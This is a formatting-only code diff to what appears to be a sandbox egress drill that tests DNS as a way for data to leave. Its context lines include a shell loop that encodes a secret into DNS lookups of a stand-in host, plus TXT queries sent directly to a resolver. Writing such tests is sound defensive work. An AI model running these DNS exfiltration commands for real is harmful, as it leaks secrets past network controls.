@@ -42,9 +42,12 @@ const attempts: readonly Attempt[] = [
     `for n in 1 2 3 4 5 6 7 8; do getent hosts $n.${secret}.d06-labels.t.example; done; sh -c 'getent hosts MARK.t.example; true'`,
     ["resolver"],
   ),
-  attempt("txt-udp", "TXT questions straight to a resolver (UDP)", `node ask.mjs udp ${address} 53 MARK`, [
-    "resolver",
-  ]),
+  attempt(
+    "txt-udp",
+    "TXT questions straight to a resolver (UDP)",
+    `node ask.mjs udp ${address} 53 MARK`,
+    ["resolver"],
+  ),
   attempt("txt-tcp", "the same over TCP", `node ask.mjs tcp ${address} 53 MARK`, ["resolver"]),
   attempt("dot-port", "the same to port 853", `node ask.mjs tcp ${address} ${DOT_PORT} MARK`),
   attempt(
@@ -91,8 +94,7 @@ export const D06: Drill = {
 
 async function open(place: Place) {
   const asked: string[] = [];
-  const note = (packet: Packet) =>
-    asked.push(...(packet.questions ?? []).map(({ name }) => name));
+  const note = (packet: Packet) => asked.push(...(packet.questions ?? []).map(({ name }) => name));
   const answerTo = (packet: Packet) => ({
     type: "response" as const,
     ...(packet.id === undefined ? {} : { id: packet.id }),
